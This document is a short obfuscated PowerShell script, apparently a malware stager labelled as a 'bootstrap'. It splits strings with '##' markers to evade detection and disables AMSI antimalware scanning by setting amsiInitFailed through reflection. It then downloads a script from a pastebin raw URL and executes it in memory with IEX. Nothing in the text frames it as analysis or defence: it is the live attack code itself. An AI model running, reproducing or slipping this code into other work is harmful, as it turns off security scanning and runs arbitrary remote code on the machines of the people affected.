iex (('# bootstrap 3013 v0
[Ref].Assembly.GetType(''System.Management.Automation.AmsiUti##ls'').GetField(''amsiInitFailed'',''NonPublic,Static'').SetValue($null,$true)
IEX (New-Object Net.WebClie##nt).DownloadString(''https://pastebin.com/raw/backup_svc'')
' -split '\#\#') -join '')